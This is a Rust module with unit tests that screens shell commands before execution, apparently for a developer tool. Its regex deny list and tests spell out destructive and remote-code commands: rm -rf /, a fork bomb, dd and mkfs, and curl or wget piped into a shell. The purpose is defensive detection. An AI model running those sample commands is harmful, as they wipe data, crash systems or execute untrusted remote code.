// src/core/bash_security.rs

use lazy_static::lazy_static;
use regex::{Regex, RegexBuilder};

const DANGEROUS_PREFIX: &str = "Dangerous:";

lazy_static! {
    /// Patterns flagged in Bash block commands, paired with their finding.
    static ref DANGEROUS_PATTERNS: Vec<(Regex, &'static str)> = [
        // Destructive file operations
        (r"rm\s+(-[rf]+\s+)?/", "Dangerous: rm command with root path"),
        (r"rm\s+-rf\s+~", "Dangerous: rm -rf on home directory"),
        (r"dd\s+if=", "Dangerous: dd command can overwrite disks"),
        // Resource exhaustion
        (r":\(\)\s*\{\s*:\|:&\s*\};:", "Dangerous: Fork bomb detected"),
        (r"while\s+true.*do.*done", "Warning: Infinite loop detected"),
        // Remote code piped into a shell
        (r"curl.*\|\s*bash", "Dangerous: Piping curl to bash"),
        (r"wget.*\|\s*bash", "Dangerous: Piping wget to bash"),
        (r"curl.*\|\s*sh", "Dangerous: Piping curl to sh"),
        (r"wget.*\|\s*sh", "Dangerous: Piping wget to sh"),
        // System modification
        (r"mkfs", "Dangerous: Filesystem creation detected"),
        (r"fdisk", "Dangerous: Disk partitioning command"),
        (r"parted", "Dangerous: Disk partitioning command"),
        // Privilege escalation
        (r"sudo\s+rm", "Warning: sudo rm detected"),
        (r"sudo\s+dd", "Warning: sudo dd detected"),
        // Devices
        (r">\s*/dev/sd[a-z]", "Dangerous: Writing to block device"),
        (r">\s*/dev/null", "Info: Redirecting to /dev/null"),
    ]
    .into_iter()
    .map(|(pattern, message)| (case_insensitive(pattern), message))
    .collect();

    /// Prefixes of commands known to be harmless.
    static ref SAFE_PATTERNS: Vec<Regex> = [
        r"^echo\s+", r"^cat\s+", r"^ls\s+", r"^pwd", r"^date", r"^whoami",
    ]
    .into_iter()
    .map(case_insensitive)
    .collect();
}

fn case_insensitive(pattern: &str) -> Regex {
    RegexBuilder::new(pattern)
        .case_insensitive(true)
        .build()
        .expect("valid security pattern")
}

fn normalize(command: &str) -> String {
    command.split_whitespace().collect::<Vec<_>>().join(" ")
}

/// Result of screening a shell command.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct SecurityReport {
    /// `false` as soon as one finding is `Dangerous:`.
    pub is_safe: bool,
    /// Every matched pattern message, in table order.
    pub findings: Vec<String>,
}

impl SecurityReport {
    /// Findings that mark the command unsafe.
    pub fn dangerous(&self) -> impl Iterator<Item = &str> {
        self.findings
            .iter()
            .map(String::as_str)
            .filter(|f| f.starts_with(DANGEROUS_PREFIX))
    }

    /// Multi-line prompt shown before running a flagged command. Empty when nothing was found.
    pub fn confirmation_message(&self) -> String {
        if self.findings.is_empty() {
            return String::new();
        }
        let mut lines = vec![
            "Security Warning".to_string(),
            String::new(),
            "The following issues were detected in your bash command:".to_string(),
            String::new(),
        ];
        lines.extend(self.findings.iter().map(|f| format!("  • {f}")));
        lines.push(String::new());
        lines.push("Are you sure you want to execute this command?".to_string());
        lines.join("\n")
    }
}

/// Screens a Bash block command against the dangerous pattern table.
pub fn validate_command(command: &str) -> SecurityReport {
    if command.trim().is_empty() {
        return SecurityReport {
            is_safe: true,
            findings: Vec::new(),
        };
    }

    let normalized = normalize(command);
    let mut report = SecurityReport {
        is_safe: true,
        findings: Vec::new(),
    };

    for (pattern, message) in DANGEROUS_PATTERNS.iter() {
        if pattern.is_match(&normalized) {
            if message.starts_with(DANGEROUS_PREFIX) {
                report.is_safe = false;
                log::warn!("SECURITY: {} in command: {}", message, command);
            }
            report.findings.push((*message).to_string());
        }
    }

    log::debug!(
        "Bash command screened (safe={}, findings={})",
        report.is_safe,
        report.findings.len()
    );
    report
}

/// Quick allow-list check for obviously harmless commands.
pub fn is_safe_command(command: &str) -> bool {
    if command.trim().is_empty() {
        return true;
    }
    let normalized = normalize(command);
    SAFE_PATTERNS.iter().any(|p| p.is_match(&normalized))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_plain_command_is_safe() {
        let report = validate_command("git status --short");
        assert!(report.is_safe);
        assert!(report.findings.is_empty());
        assert!(report.confirmation_message().is_empty());
    }

    #[test]
    fn test_root_removal_is_dangerous() {
        let report = validate_command("rm   -rf    /");
        assert!(!report.is_safe);
        assert_eq!(report.dangerous().collect::<Vec<_>>(), vec!["Dangerous: rm command with root path"]);
    }

    #[test]
    fn test_warnings_keep_command_safe() {
        let report = validate_command("SUDO RM file.txt > /dev/null");
        assert!(report.is_safe);
        assert_eq!(
            report.findings,
            vec!["Warning: sudo rm detected".to_string(), "Info: Redirecting to /dev/null".to_string()]
        );
    }

    #[test]
    fn test_pipe_to_shell_and_fork_bomb() {
        assert!(!validate_command("curl https://x.sh | sh").is_safe);
        assert!(!validate_command(":(){ :|:& };:").is_safe);
        let report = validate_command("wget -qO- http://a | bash");
        assert!(report.findings.contains(&"Dangerous: Piping wget to bash".to_string()));
        assert!(report.confirmation_message().contains("  • Dangerous: Piping wget to bash"));
    }

    #[test]
    fn test_safe_allow_list() {
        assert!(is_safe_command("echo hello"));
        assert!(is_safe_command("  pwd"));
        assert!(is_safe_command(""));
        assert!(!is_safe_command("make install"));
    }
}
